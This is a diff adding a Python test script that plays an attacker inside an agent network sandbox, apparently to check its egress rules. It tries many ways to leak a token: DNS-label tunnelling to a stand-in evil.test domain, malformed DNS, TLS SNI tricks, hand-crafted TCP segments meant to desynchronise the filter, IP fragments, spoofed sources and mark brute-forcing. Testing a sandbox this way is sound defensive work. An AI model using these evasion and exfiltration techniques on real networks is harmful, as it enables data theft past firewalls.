@@ -1,0 +1,851 @@
+"""What an attacker inside the fence tries: attack.py [--cgroup PATH] NAME key=value...
+
+Each function sends what it is told, ignores refusals, and prints one line of JSON. The same code runs
+without a fence (where its token must arrive), under agentctl run, and with --cgroup as root without
+the sandbox, where only the rules stand in the way: it joins the cgroup before it makes a socket.
+"""
+import asyncio
+import ctypes
+import errno
+import json
+import os
+import random
+import socket
+import struct
+import sys
+import time
+
+sys.dont_write_bytecode = True
+sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
+import wire  # noqa: E402
+
+TCP_REPAIR, TCP_REPAIR_QUEUE, TCP_QUEUE_SEQ = 19, 20, 21
+SO_MARK = 36
+
+
+def family(address):
+    return socket.AF_INET6 if ":" in address else socket.AF_INET
+
+
+def tcp(address, port, timeout=3.0):
+    s = socket.socket(family(address), socket.SOCK_STREAM)
+    s.settimeout(timeout)
+    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
+    s.connect((address, port))
+    return s
+
+
+def attempt(fn):
+    """(result or None, errno name or None, milliseconds)"""
+    start = time.monotonic()
+    try:
+        value, err = fn(), None
+    except socket.timeout:
+        value, err = None, "TIMEOUT"
+    except OSError as e:
+        value, err = None, errno.errorcode.get(e.errno, str(e.errno))
+    return value, err, (time.monotonic() - start) * 1000
+
+
+def drain(s, timeout=2.0):
+    """What comes back until the other side closes, resets, or is silent: (bytes, errno name)"""
+    s.settimeout(timeout)
+    out = b""
+    while True:
+        data, err, _ = attempt(lambda: s.recv(65536))
+        if err or not data:
+            return out, err or "EOF"
+        out += data
+
+
+def hexes(b):
+    return b.hex()
+
+
+# ---- plain connections ---------------------------------------------------------------------------
+
+def connect(a):
+    """Connects, sends the token, reads an answer."""
+    s, err, ms = attempt(lambda: tcp(a["to"], a["port"]))
+    if s is None:
+        return {"connect": err, "ms": ms}
+    _, err, _ = attempt(lambda: s.sendall(a["token"].encode() + b"\n"))
+    start = time.monotonic()
+    back, end = drain(s, a.get("wait", 1.0))
+    return {"connect": "ok", "ms": ms, "send": err, "back": hexes(back), "end": end,
+            "end_ms": (time.monotonic() - start) * 1000}
+
+
+def connect_mapped(a):
+    """IPv4 in an IPv6 socket."""
+    def go():
+        s = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
+        s.settimeout(3)
+        s.connect(("::ffff:" + a["to"], a["port"]))
+        s.sendall(a["token"].encode())
+        return s
+    s, err, ms = attempt(go)
+    time.sleep(0.1)
+    return {"connect": err or "ok", "ms": ms}
+
+
+def resolve(a):
+    r, err, ms = attempt(lambda: [x[4][0] for x in socket.getaddrinfo(a["name"], 443, type=socket.SOCK_STREAM)])
+    return {"addresses": r or [], "error": err, "ms": ms}
+
+
+def urllib_get(a):
+    import urllib.request
+    start = time.monotonic()
+    try:
+        with urllib.request.urlopen(a["url"], timeout=5) as f:
+            return {"status": f.status, "body": f.read().decode(), "ms": (time.monotonic() - start) * 1000}
+    except OSError as e:
+        return {"status": 0, "error": str(e), "ms": (time.monotonic() - start) * 1000}
+
+
+def asyncio_get(a):
+    async def go():
+        r, w = await asyncio.open_connection(a["name"], a["port"], ssl=True)
+        w.write(b"GET / HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n" % a["name"].encode())
+        out = await r.read()
+        w.close()
+        return out
+    start = time.monotonic()
+    try:
+        return {"body": asyncio.run(go()).decode(), "ms": (time.monotonic() - start) * 1000}
+    except OSError as e:
+        return {"body": "", "error": str(e), "ms": (time.monotonic() - start) * 1000}
+
+
+def pg(a):
+    """The startup message of PostgreSQL and one query, over a plain connection."""
+    def go():
+        s = tcp(a["to"], a["port"])
+        body = struct.pack("!I", 196608) + b"user\0agent\0database\0" + a["token"].encode() + b"\0\0"
+        s.sendall(struct.pack("!I", 4 + len(body)) + body)
+        first = s.recv(4096)
+        s.sendall(b"Q" + struct.pack("!I", 13) + b"select 1\0")
+        return first + s.recv(4096)
+    r, err, ms = attempt(go)
+    return {"back": (r or b"").decode("latin1"), "error": err, "ms": ms}
+
+
+def pair(a):
+    """Resolves the name, then connects to the address that was given (the two keys), hello as SNI."""
+    r = resolve(a)
+    if not r["addresses"]:
+        return r
+    return dict(hello(dict(a, to=r["addresses"][0])), addresses=r["addresses"])
+
+
+# ---- DNS -----------------------------------------------------------------------------------------
+
+def udp_ask(server, msg, timeout=2.0, port=53):
+    s = socket.socket(family(server), socket.SOCK_DGRAM)
+    s.settimeout(timeout)
+
+    def go():
+        s.connect((server, port))
+        s.send(msg)
+        return s.recv(65535)
+    return attempt(go)
+
+
+def tcp_ask(server, data, n=1, chunk=0, timeout=2.0):
+    """data: framed messages; the n framed answers."""
+    def go():
+        s = tcp(server, 53, timeout)
+        for i in range(0, len(data), chunk or len(data)):
+            s.sendall(data[i:i + (chunk or len(data))])
+        out, buf = [], b""
+        while len(out) < n:
+            more = s.recv(65536)
+            if not more:
+                break
+            buf += more
+            while len(buf) >= 2 and len(buf) >= 2 + struct.unpack("!H", buf[:2])[0]:
+                size = 2 + struct.unpack("!H", buf[:2])[0]
+                out.append(buf[2:size])
+                buf = buf[size:]
+        return out
+    return attempt(go)
+
+
+def frame(m):
+    return struct.pack("!H", len(m)) + m
+
+
+def dns_reply(value, err, ms):
+    if not value:
+        return {"error": err, "ms": ms}
+    try:
+        p = wire.dns_parse(value)
+        return {"rcode": p["rcode"], "addresses": wire.dns_addresses(value), "ede": wire.dns_ede(value),
+                "answers": p["an"], "flags": p["flags"], "ms": ms, "size": len(value)}
+    except (ValueError, struct.error, IndexError) as e:
+        return {"error": "unreadable %s" % e, "ms": ms, "raw": value.hex()}
+
+
+def dns(a):
+    """One question; a["tcp"], a["chunk"] (bytes a segment), a["qtype"], a["case"] as it is."""
+    msg = wire.dns_query(a["name"], a.get("qtype", 1), edns=b"" if a.get("edns", 1) else None)
+    if a.get("tcp"):
+        v, err, ms = tcp_ask(a["server"], frame(msg), 1, a.get("chunk", 0))
+        return dns_reply(v[0] if v else None, err, ms)
+    return dns_reply(*udp_ask(a["server"], msg))
+
+
+def dns_pipeline(a):
+    msgs = b"".join(frame(wire.dns_query(n, edns=b"")) for n in a["names"].split(","))
+    v, err, ms = tcp_ask(a["server"], msgs, len(a["names"].split(",")), a.get("chunk", 0))
+    return {"replies": [dns_reply(m, None, ms) for m in v or []], "error": err}
+
+
+def malformed_queries(name, tok):
+    q = wire.dns_query
+    evil = wire.dns_name(tok + ".evil.test") + struct.pack("!2H", 1, 1)
+    return {
+        "qdcount 0": q(name, qdcount=0, trailing=tok.encode()),
+        "qdcount 2": q(name, qdcount=2, trailing=evil),
+        "qdcount 65535": q(name, qdcount=65535, trailing=evil),
+        "trailing bytes": q(name, trailing=tok.encode()),
+        "edns option": q(name, edns=struct.pack("!2H", 65001, len(tok)) + tok.encode()),
+        "client subnet": q(name, edns=struct.pack("!2H", 8, len(tok)) + tok.encode()),
+        "qr=1": q(name, flags=0x8180, trailing=tok.encode()),
+        "opcode 5": q(name, flags=0x2900, trailing=tok.encode()),
+        "opcode 15": q(name, flags=0x7900, trailing=tok.encode()),
+        "class CH": q(name, qclass=3, trailing=tok.encode()),
+        "class 0": q(name, qclass=0, trailing=tok.encode()),
+        "two questions, counts lie": q(name, counts=(1, 0, 0), trailing=evil),
+        "answer in query": q(name, counts=(1, 0, 0), trailing=b"\xc0\x0c" + struct.pack(
+            "!HHIH", 16, 1, 0, len(tok) + 1) + bytes([len(tok)]) + tok.encode()),
+        "short": q(name)[:11] + tok.encode()[:0],
+        "name cut off": q(name)[:20],
+        "pointer in question": q(name)[:12] + b"\xc0\x0c\0\1\0\1" + tok.encode(),
+        "label of 64": q([b"a" * 63, tok.encode(), b"evil", b"test"])[:12] + b"\x40" + tok.encode() * 4,
+        "z bits": q(name, flags=0x0170, trailing=tok.encode()),
+    }
+
+
+def dns_malformed(a):
+    out = {}
+    for what, msg in malformed_queries(a["name"], a["token"]).items():
+        if a.get("tcp"):
+            v, err, ms = tcp_ask(a["server"], frame(msg), 1, timeout=1.0)
+            out[what] = dns_reply(v[0] if v else None, err, ms)
+        else:
+            out[what] = dns_reply(*udp_ask(a["server"], msg, 1.0))
+    return out
+
+
+def dns_labels(a):
+    """Data in questions: one query each, as raw labels. a["base"]: an allowed name."""
+    tok, base = a["token"].encode(), [l.encode() for l in a["base"].split(".")]
+    cases = {
+        "under a refused name": ([tok, b"evil", b"test"], 1),
+        "under an allowed name": ([tok] + base, 1),
+        "TXT": ([tok, b"evil", b"test"], 16), "NULL": ([tok, b"evil", b"test"], 10),
+        "ANY": ([tok, b"evil", b"test"], 255), "type 65280": ([tok] + base, 65280),
+        "255 bytes": ([tok.ljust(60, b"x")] + [b"y" * 63] * 2 + [b"z" * 55, b"evil", b"test"], 1),
+        "dot inside a label": ([tok + b"." + base[0]] + base[1:], 1),
+        "whole name in a label": ([tok, b".".join(base)], 1),
+        "NUL inside a label": ([base[0] + b"\0" + tok] + base[1:], 1),
+        "NUL at the end": (base[:-1] + [base[-1] + b"\0" + tok], 1),
+        "bytes above 127": ([b"\xff\xfe" + tok] + base, 1),
+        "the root": ([], 2), "one label": ([tok], 1),
+        "upper case": ([tok.upper(), b"EVIL", b"Test"], 1),
+    }
+    out = {}
+    for what, (labels, qtype) in cases.items():
+        out[what] = dns_reply(*udp_ask(a["server"], wire.dns_query(labels, qtype, edns=b""), 1.0))
+    return out
+
+
+def udp_send(a):
+    """One datagram with the token. a["sport"], a["size"], a["mapped"], a["broadcast"], a["proto"]."""
+    def go():
+        s = socket.socket(socket.AF_INET6 if a.get("mapped") else family(a["to"]), socket.SOCK_DGRAM,
+                          a.get("proto", 0))
+        s.settimeout(0.5)
+        if a.get("sport"):
+            s.bind(("", a["sport"]))
+        if a.get("broadcast"):
+            s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
+        to = ("::ffff:" if a.get("mapped") else "") + a["to"]
+        data = a["token"].encode().ljust(a.get("size", 0), b".")
+        dev = (0, socket.if_nametoindex("a0")) if a["to"].startswith(("ff", "fe80")) else ()
+        if a.get("broadcast") or dev or a["to"].startswith("224."):
+            s.sendto(data, (to, a["port"]) + dev)
+        else:
+            s.connect((to, a["port"]))
+            s.send(data)
+        return s.recv(2048)
+    v, err, ms = attempt(go)
+    return {"back": hexes(v or b""), "error": err, "ms": ms}
+
+
+# ---- TLS and HTTP --------------------------------------------------------------------------------
+
+def make_hello(a):
+    sni = a.get("sni")
+    raw = bytes.fromhex(a["sni_hex"]) if a.get("sni_hex") else None
+    return wire.client_hello(sni, a["token"].encode(), ech=bool(a.get("ech")), pad=a.get("pad", 0),
+                             records=a.get("records", 1), sni_raw=raw)
+
+
+def hello(a):
+    """A ClientHello with the token in it. a["chunk"]: bytes a segment."""
+    s, err, ms = attempt(lambda: tcp(a["to"], a["port"]))
+    if s is None:
+        return {"connect": err, "ms": ms}
+    data, chunk = make_hello(a), a.get("chunk", 0)
+    start = time.monotonic()
+
+    def send():
+        for i in range(0, len(data), chunk or len(data)):
+            s.sendall(data[i:i + (chunk or len(data))])
+    _, err, _ = attempt(send)
+    s.settimeout(a.get("wait", 2.0))
+    back, end, _ = attempt(lambda: s.recv(65536))
+    return {"connect": "ok", "ms": ms, "send": err, "back": hexes(back or b""), "end": end or (
+        "data" if back else "EOF"), "end_ms": (time.monotonic() - start) * 1000}
+
+
+def raw_bytes(a):
+    """a["hex"], in which 'TOKEN' is written as the token; a["then_hex"] after an answer."""
+    s, err, ms = attempt(lambda: tcp(a["to"], a["port"]))
+    if s is None:
+        return {"connect": err, "ms": ms}
+    fill = lambda h: bytes.fromhex(h).replace(b"TOKEN", a["token"].encode())
+    out = {"connect": "ok", "ms": ms}
+    data = fill(a["hex"])
+    chunk = a.get("chunk", 0) or len(data)
+    start = time.monotonic()
+
+    def send():
+        for i in range(0, len(data), chunk):
+            s.sendall(data[i:i + chunk])
+    _, out["send"], _ = attempt(send)
+    s.settimeout(a.get("wait", 1.5))
+    back, err, _ = attempt(lambda: s.recv(65536))
+    out.update(back=hexes(back or b""), end=err or ("data" if back else "EOF"),
+               end_ms=(time.monotonic() - start) * 1000)
+    if a.get("then_hex"):
+        _, out["send2"], _ = attempt(lambda: s.sendall(fill(a["then_hex"])))
+        back, err, _ = attempt(lambda: s.recv(65536))
+        out.update(back2=hexes(back or b""), end2=err or ("data" if back else "EOF"))
+    return out
+
+
+def silence(a):
+    """Connects and says nothing for a while."""
+    s, err, ms = attempt(lambda: tcp(a["to"], a["port"]))
+    if s is None:
+        return {"connect": err, "ms": ms}
+    back, end = drain(s, a.get("wait", 1.0))
+    return {"connect": "ok", "ms": ms, "back": hexes(back), "end": end}
+
+
+def splits(a):
+    """The hello cut in two at every offset (a["step"]); every connection of its own."""
+    data = make_hello(a)
+    res, slowest = {}, 0.0
+    for at in range(1, len(data), a.get("step", 1)):
+        s, err, _ = attempt(lambda: tcp(a["to"], a["port"]))
+        if s is None:
+            res.setdefault("connect " + err, []).append(at)
+            continue
+        start = time.monotonic()
+
+        def go():
+            s.sendall(data[:at])
+            time.sleep(0.001)
+            s.sendall(data[at:])
+            return s.recv(4096)
+        back, err, _ = attempt(go)
+        slowest = max(slowest, time.monotonic() - start)
+        res.setdefault("answer" if back else err or "EOF", []).append(at)
+        s.close()
+    return {"n": len(data), "results": {k: len(v) for k, v in res.items()}, "slowest_ms": slowest * 1000,
+            "first": {k: v[:5] for k, v in res.items()}}
+
+
+def fastopen(a):
+    """The hello in the SYN."""
+    def go():
+        s = socket.socket(family(a["to"]), socket.SOCK_STREAM)
+        s.settimeout(2)
+        s.sendto(make_hello(a) if a.get("sni") is not None else a["token"].encode(), 0x20000000,
+                 (a["to"], a["port"]))  # MSG_FASTOPEN
+        return s.recv(4096)
+    v, err, ms = attempt(go)
+    return {"back": hexes(v or b""), "error": err, "ms": ms}
+
+
+def urgent(a):
+    """Bytes of the hello as urgent data in the middle."""
+    def go():
+        s = tcp(a["to"], a["port"], 1.5)
+        data = make_hello(a)
+        s.sendall(data[:60])
+        s.send(b"!", socket.MSG_OOB)
+        s.sendall(data[60:])
+        return s.recv(4096)
+    v, err, ms = attempt(go)
+    return {"back": hexes(v or b""), "error": err, "ms": ms}
+
+
+# ---- crafted segments: root, without the sandbox -------------------------------------------------
+
+class Flow:
+    """A connection made by the kernel, into which segments are put by hand."""
+
+    def __init__(self, to, port):
+        self.s = tcp(to, port)
+        self.src, self.sport = self.s.getsockname()[:2]
+        self.dst, self.dport = to, port
+        self.s.setsockopt(socket.IPPROTO_TCP, TCP_REPAIR, 1)
+        seqs = []
+        for queue in (2, 1):  # send, receive
+            self.s.setsockopt(socket.IPPROTO_TCP, TCP_REPAIR_QUEUE, queue)
+            seqs.append(self.s.getsockopt(socket.IPPROTO_TCP, TCP_QUEUE_SEQ) & 0xffffffff)
+        self.seq, self.ack = seqs
+        # Left in repair: the kernel's own stack stays silent about this connection.
+        self.ts = b""
+        v6 = ":" in to
+        self.raw = socket.socket(family(to), socket.SOCK_RAW, socket.IPPROTO_RAW)
+        self.v6 = v6
+
+    def send(self, offset, payload=b"", flags=wire.ACK | wire.PSH, ttl=64, **kw):
+        seg = wire.tcp(self.src, self.dst, self.sport, self.dport, self.seq + offset, self.ack, flags,
+                       payload, **kw)
+        pkt = (wire.ipv6(self.src, self.dst, 6, seg, hops=ttl) if self.v6 else
+               wire.ipv4(self.src, self.dst, 6, seg, ttl=ttl))
+        attempt(lambda: self.raw.sendto(pkt, (self.dst, 0)))
+
+
+def crafted(a):
+    """One way (a["how"]) to show the fence another stream than the server gets. good: a hello with the
+    allowed name; bad: the one with the token."""
+    f = Flow(a["to"], a["port"])
+    good = wire.client_hello(a["sni"])
+    bad = wire.client_hello(a["evil"], a["token"].encode())
+    size = max(len(good), len(bad))
+    how = a["how"]
+    cut = len(bad) // 2
+    if how == "plain":
+        f.send(0, bad)
+    elif how == "good":
+        f.send(0, wire.client_hello(a["sni"], a["token"].encode()))
+    elif how == "good reversed":
+        data = wire.client_hello(a["sni"], a["token"].encode())
+        cuts = list(range(0, len(data), 50))
+        for at in reversed(cuts):
+            f.send(at, data[at:at + 50])
+    elif how == "reversed":
+        for at in reversed(range(0, len(bad), 50)):
+            f.send(at, bad[at:at + 50])
+    elif how == "overlap, good first":  # whose bytes count?
+        f.send(cut, good[cut:])
+        f.send(cut, bad[cut:])
+        f.send(0, bad[:cut])
+    elif how == "overlap, bad first":
+        f.send(cut, bad[cut:])
+        f.send(cut, good[cut:])
+        f.send(0, good[:cut])
+        f.send(0, bad[:cut])
+    elif how == "same seq twice":
+        f.send(1, bad[1:])
+        f.send(1, good[1:])
+        f.send(0, good[:1])
+    elif how == "bad checksum":
+        f.send(0, good, bad=True)
+        time.sleep(0.1)
+        f.send(0, bad)
+    elif how == "low ttl":
+        f.send(0, good, ttl=1)
+        time.sleep(0.1)
+        f.send(0, bad)
+    elif how == "wrong seq":
+        f.send(100000000, good)
+        time.sleep(0.1)
+        f.send(0, bad)
+    elif how == "before the window":
+        f.send(-len(good), good)
+        time.sleep(0.1)
+        f.send(0, bad)
+    elif how == "fake rst":
+        f.send(50000, b"", wire.RST)
+        f.send(0, bad)
+    elif how == "fake fin":
+        f.send(0, b"", wire.FIN | wire.ACK)
+        f.send(0, bad)
+    elif how == "fin with data":
+        f.send(0, bad, wire.FIN | wire.ACK | wire.PSH)
+    elif how == "rst with data":
+        f.send(0, bad, wire.RST | wire.ACK)
+    elif how == "syn with data":
+        f.send(-1, bad, wire.SYN)
+    elif how == "no flags":
+        f.send(0, bad, 0)
+    elif how == "no ack":
+        f.send(0, bad, wire.PSH)
+    elif how == "urgent":
+        f.send(0, bad, wire.ACK | wire.PSH | wire.URG, urg=5)
+    elif how == "keepalive byte":  # one byte at seq - 1: a keep-alive with data
+        for i, b in enumerate(a["token"].encode()):
+            f.send(-1, bytes([b]), wire.ACK)
+    elif how == "in options":
+        tok = a["token"].encode()
+        f.send(0, b"", wire.ACK, options=(b"\xfd" + bytes([len(tok) + 2]) + tok).ljust(24, b"\1"))
+    else:
+        raise SystemExit("no such way: " + how)
+    time.sleep(a.get("wait", 0.3))
+    os._exit_later = f  # keep the socket: its close would send
+    return {"sent": size}
+
+
+def proto_socket(a):
+    """Raw IP packets of any protocol to a["to"], the token as payload: a["proto"] a number."""
+    def go():
+        s = socket.socket(family(a["to"]), socket.SOCK_RAW, a["proto"])
+        body = a["token"].encode()
+        if a["proto"] == 1:
+            head = struct.pack("!BBHHH", a.get("type", 8), a.get("code", 0), 0, 7, 1)
+            body = head[:2] + struct.pack("!H", wire.checksum(head + body)) + head[4:] + body
+        elif a["proto"] == 58:
+            body = struct.pack("!BBHHH", a.get("type", 128), a.get("code", 0), 0, 7, 1) + body
+        elif a["proto"] == 132:
+            body = struct.pack("!HHII", 1000, a.get("port", 9000), 0, 0) + body
+        elif a["proto"] == 33:
+            body = struct.pack("!HHBBHI", 1000, a.get("port", 9000), 6, 0, 0, 0) + b"\0" * 12 + body
+        elif a["proto"] == 136:
+            body = struct.pack("!HHHH", 1000, a.get("port", 9000), 8, 0) + body
+        elif a["proto"] == 6:
+            body = b"\x30\x39" + struct.pack("!H", a.get("port", 9000)) + b"\0" * 8 + \
+                bytes([0x50, a.get("flags", 0x10)]) + b"\xff\xff" + b"\0" * 4 + body
+        elif a["proto"] == 17:
+            body = struct.pack("!4H", 4000, a.get("port", 9000), 8 + len(body), 0) + body
+        s.sendto(body, (a["to"], 0))
+    _, err, _ = attempt(go)
+    time.sleep(0.05)
+    return {"error": err}
+
+
+def protocols(a):
+    """Every protocol number from a list, over raw sockets."""
+    return {p: proto_socket(dict(a, proto=int(p)))["error"] for p in a["protos"].split(",")}
+
+
+def tcp_flags(a):
+    """Segments that belong to no connection, with the token as payload."""
+    src = a["from"]
+    s, err, _ = attempt(lambda: socket.socket(family(a["to"]), socket.SOCK_RAW, socket.IPPROTO_RAW))
+    if s is None:
+        return {"error": err}
+    for flags in (wire.ACK, wire.FIN | wire.ACK, wire.RST, wire.RST | wire.ACK, wire.SYN | wire.ACK,
+                  wire.PSH | wire.ACK, 0, wire.SYN, wire.SYN | wire.FIN, 0x3f, wire.URG | wire.ACK):
+        seg = wire.tcp(src, a["to"], random.randrange(20000, 60000), a["port"], random.getrandbits(32),
+                       random.getrandbits(32), flags, a["token"].encode())
+        pkt = wire.ipv6(src, a["to"], 6, seg) if ":" in src else wire.ipv4(src, a["to"], 6, seg)
+        attempt(lambda: s.sendto(pkt, (a["to"], 0)))
+    time.sleep(0.05)
+    return {"error": None}
+
+
+def hdrincl(a):
+    """Whole packets of our own: options, fragments, spoofed sources."""
+    s, err, _ = attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW))
+    if s is None:
+        return {"error": err}
+    attempt(lambda: s.setsockopt(0, 22, 1))  # IP_NODEFRAG
+    tok, src, to = a["token"].encode(), a["from"], a["to"]
+    how = a["how"]
+    if how == "options":
+        opt = bytes([0x94, 4, 0, 0]) + bytes([0x9e, len(tok) + 2]) + tok
+        pkts = [wire.ipv4(src, to, 17, wire.udp(src, to, 4000, a["port"], tok), options=opt)]
+    elif how == "fragments":
+        body = wire.udp(src, to, 4000, a["port"], b"." * 64 + tok)
+        pkts = [wire.ipv4(src, to, 17, body[:48], ident=77, more=True),
+                wire.ipv4(src, to, 17, body[48:], ident=77, frag=48)]
+    elif how == "tiny fragments":
+        body = wire.udp(src, to, 4000, a["port"], tok)
+        pkts = [wire.ipv4(src, to, 17, body[i:i + 8], ident=78, frag=i, more=i + 8 < len(body))
+                for i in range(0, len(body), 8)]
+    elif how == "second fragment only":
+        pkts = [wire.ipv4(src, to, 17, tok.ljust(32, b"."), ident=79, frag=64, more=True)]
+    elif how == "spoofed source":
+        other = a["other"]
+        pkts = [wire.ipv4(other, to, 17, wire.udp(other, to, 4000, a["port"], tok))]
+    elif how == "dns answer":  # UDP from port 53
+        pkts = [wire.ipv4(src, to, 17, wire.udp(src, to, 53, a["port"], tok))]
+    else:
+        raise SystemExit("no such way: " + how)
+    for p in pkts:
+        _, err, _ = attempt(lambda: s.sendto(p, (to, 0)))
+    time.sleep(0.05)
+    return {"error": err}
+
+
+def v6_headers(a):
+    """UDP behind IPv6 extension headers and in fragments, as whole packets."""
+    s, err, _ = attempt(lambda: socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_RAW))
+    if s is None:
+        return {"error": err}
+    src, to, tok = a["from"], a["to"], a["token"].encode()
+    body = wire.udp(src, to, 4000, a["port"], tok)
+    pad = bytes([1, 4, 0, 0, 0, 0])
+    opt = bytes([0x1e, len(tok)]) + tok
+    size = -(-(2 + len(opt)) // 8) * 8
+    fill = size - 2 - len(opt)
+    dst = bytes([17, size // 8 - 1]) + opt + (b"\0" if fill == 1 else bytes([1, fill - 2]) +
+                                              b"\0" * (fill - 2) if fill else b"")
+    chain = bytes([60, 0]) + pad + bytes([17, 0]) + pad
+    frag = lambda off, more, part: bytes([17, 0]) + struct.pack("!HI", off | more, 99) + part
+    pkts = {"hop-by-hop": wire.ipv6(src, to, 0, bytes([17, 0]) + pad + body),
+            "destination": wire.ipv6(src, to, 60, dst + body),
+            "both": wire.ipv6(src, to, 0, chain + body),
+            "routing": wire.ipv6(src, to, 43, bytes([17, 0, 253, 0, 0, 0, 0, 0]) + body),
+            "atomic fragment": wire.ipv6(src, to, 44, frag(0, 0, body)),
+            "fragments": wire.ipv6(src, to, 44, frag(0, 1, body[:16])),
+            "second fragment": wire.ipv6(src, to, 44, frag(16, 0, body[16:])),
+            "no next header": wire.ipv6(src, to, 59, tok)}
+    out = {}
+    for what, p in pkts.items():
+        if "how" not in a or a["how"] == what:
+            _, out[what], _ = attempt(lambda: s.sendto(p, (to, 0)))
+    time.sleep(0.05)
+    return out
+
+
+def ping(a):
+    """A ping socket: no rights needed. The token is the echo's payload."""
+    def go():
+        s = socket.socket(family(a["to"]), socket.SOCK_DGRAM, 58 if ":" in a["to"] else 1)
+        s.settimeout(0.5)
+        s.connect((a["to"], 0))
+        s.send(struct.pack("!BBHHH", 128 if ":" in a["to"] else 8, 0, 0, 0, 1) + a["token"].encode())
+        return s.recv(2048)
+    v, err, ms = attempt(go)
+    return {"back": hexes(v or b""), "error": err, "ms": ms}
+
+
+def packet_socket(a):
+    """AF_PACKET: whole frames past netfilter, to the router's address."""
+    def go():
+        s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
+        s.bind(("a0", 0x0800))
+        body = wire.ipv4(a["from"], a["to"], 17, wire.udp(a["from"], a["to"], 4000, a["port"],
+                                                          a["token"].encode()))
+        s.send(bytes.fromhex(a["mac"].replace(":", "")) + b"\2\0\0\0\0\1\x08\0" + body)
+    _, err, _ = attempt(go)
+    return {"error": err}
+
+
+def families(a):
+    """Which sockets can be made at all."""
+    libc = ctypes.CDLL(None, use_errno=True)
+    want = {"raw4": (2, 3, 255), "raw4 icmp": (2, 3, 1), "raw4 udp": (2, 3, 17), "raw6": (10, 3, 255),
+            "raw6 icmp": (10, 3, 58), "packet": (17, 3, 0x300), "packet dgram": (17, 2, 0x300),
+            "packet none": (17, 3, 0), "xdp": (44, 3, 0), "vsock": (40, 1, 0), "alg": (38, 5, 0),
+            "netfilter": (16, 3, 12), "netlink audit": (16, 3, 9), "sctp": (2, 1, 132), "udplite": (2, 2, 136), "dccp": (2, 6, 33),
+            "can": (29, 3, 1), "bluetooth": (31, 3, 1), "rds": (21, 5, 0), "tipc": (30, 2, 0),
+            "kcm": (41, 2, 0), "smc": (43, 1, 0), "key": (15, 3, 2)}
+    ok = {"tcp4": (2, 1, 0), "tcp6": (10, 1, 0), "udp4": (2, 2, 0), "unix": (1, 1, 0), "route": (16, 3, 0)}
+    out = {}
+    for what, (f, t, p) in {**want, **ok}.items():
+        fd = libc.socket(f, t, p)
+        out[what] = "open" if fd >= 0 else errno.errorcode.get(ctypes.get_errno(), "?")
+        if fd >= 0:
+            os.close(fd)
+    params = ctypes.create_string_buffer(120)
+    fd = libc.syscall(425, 4, params)  # io_uring_setup
+    out["io_uring"] = "open" if fd >= 0 else errno.errorcode.get(ctypes.get_errno(), "?")
+    return {"sockets": out, "must_fail": list(want) + ["io_uring"], "must_work": list(ok)}
+
+
+def marks(a):
+    """SO_MARK in every bit pattern that matters, per socket and per message, over UDP."""
+    patterns = [1 << i for i in range(32)] + [0xffffffff ^ (1 << i) for i in range(32)] + [0xffffffff]
+    patterns += [b << s for s in (0, 8, 16, 24) for b in range(1, 256)]
+    rnd = random.Random(5)
+    patterns += [rnd.getrandbits(32) for _ in range(300)]
+    sent, err = 0, None
+    for how in ("option", "cmsg"):
+        for m in patterns:
+            s = socket.socket(family(a["to"]), socket.SOCK_DGRAM)
+
+            def go():
+                if how == "option":
+                    s.setsockopt(socket.SOL_SOCKET, SO_MARK, struct.pack("I", m))
+                    s.sendto(a["token"].encode(), (a["to"], a["port"]))
+                else:
+                    s.sendmsg([a["token"].encode()], [(socket.SOL_SOCKET, SO_MARK, struct.pack("I", m))], 0,
+                              (a["to"], a["port"]))
+            _, e, _ = attempt(go)
+            sent, err = (sent + 1, err) if e is None else (sent, e)
+            s.close()
+    return {"sent": sent, "error": err}
+
+
+def marks_tcp(a):
+    """The same by TCP: mark set before connect, and after it."""
+    err = {}
+    for m in [1 << i for i in range(32)] + [0xffffffff, 0xffff0000, 0x0000ffff]:
+        def go():
+            s = socket.socket(family(a["to"]), socket.SOCK_STREAM)
+            s.settimeout(1)
+            s.setsockopt(socket.SOL_SOCKET, SO_MARK, struct.pack("I", m))
+            s.connect((a["to"], a["port"]))
+            s.sendall(make_hello(a) if "sni" in a else a["token"].encode())
+            s.settimeout(0.3)
+            s.recv(1000)
+        _, e, _ = attempt(go)
+        err[str(e)] = err.get(str(e), 0) + 1
+    return err
+
+
+def listen(a):
+    """Serves the token to whoever connects, on every address; READY when it listens."""
+    s = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
+    s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
+    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+    s.bind(("::", a["port"]))
+    s.listen(16)
+    print("READY", flush=True)
+    got = 0
+    end = time.monotonic() + a.get("seconds", 30)
+    s.settimeout(0.2)
+    while time.monotonic() < end:
+        try:
+            c, _ = s.accept()
+        except socket.timeout:
+            continue
+        got += 1
+        print("ACCEPTED", flush=True)
+        attempt(lambda: c.sendall(a["token"].encode() + b"\n"))
+        c.close()
+    return {"accepted": got}
+
+
+def own_listener(a):
+    """A listener and its client in one fence: does a program reach itself?"""
+    l = socket.socket(family(a["to"]), socket.SOCK_STREAM)
+    l.bind((a["to"], a["port"]))
+    l.listen(1)
+    l.settimeout(2)
+    c, err, ms = attempt(lambda: tcp(a["to"], a["port"]))
+    if c is None:
+        return {"connect": err, "ms": ms}
+    d, err, _ = attempt(lambda: l.accept()[0])
+    d.sendall(b"hello")
+    return {"connect": "ok", "ms": ms, "back": attempt(lambda: c.recv(10))[0].decode()}
+
+
+def quic(a):
+    """Datagrams to UDP 443 that look like QUIC Initials, the token as connection id and payload."""
+    tok = a["token"].encode()
+    first = {"v1": 1, "v2": 0x6b3343cf, "negotiation": 0, "unknown": 0x0a0a0a0a}[a["how"]]
+    pkt = bytes([0xc3]) + struct.pack("!I", first) + bytes([len(tok)]) + tok[:20].ljust(len(tok)) + b"\0\0"
+    pkt += b"\x44\xa0" + tok.ljust(1200, b"q")
+    return udp_bytes(a, pkt)
+
+
+def udp_bytes(a, data):
+    def go():
+        s = socket.socket(family(a["to"]), socket.SOCK_DGRAM)
+        s.settimeout(0.5)
+        s.connect((a["to"], a["port"]))
+        s.send(data)
+        return s.recv(2048)
